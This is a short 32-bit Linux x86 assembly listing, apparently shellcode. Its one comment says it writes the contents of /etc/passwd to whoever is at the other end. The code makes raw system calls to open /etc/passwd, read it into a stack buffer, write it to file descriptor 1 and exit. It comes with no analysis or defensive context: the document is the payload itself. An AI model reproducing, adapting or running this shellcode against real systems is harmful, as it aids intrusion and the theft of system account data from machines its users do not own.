; Linux, 32 bit: writes the content of /etc/passwd to whoever is at the other end.
bits 32
        xor ecx, ecx
        mul ecx
        push ecx
        push dword 'sswd'
        push dword '//pa'
        push dword '/etc'
        mov ebx, esp
        mov al, 5
        int 80h
        xchg eax, ebx
        xchg eax, ecx
        sub esp, 0x400
        mov ecx, esp
        mov dx, 0x3ff
        push byte 3
        pop eax
        int 80h
        xchg eax, edx
        push byte 1
        pop ebx
        push byte 4
        pop eax
        int 80h
        push byte 1
        pop eax
        int 80h
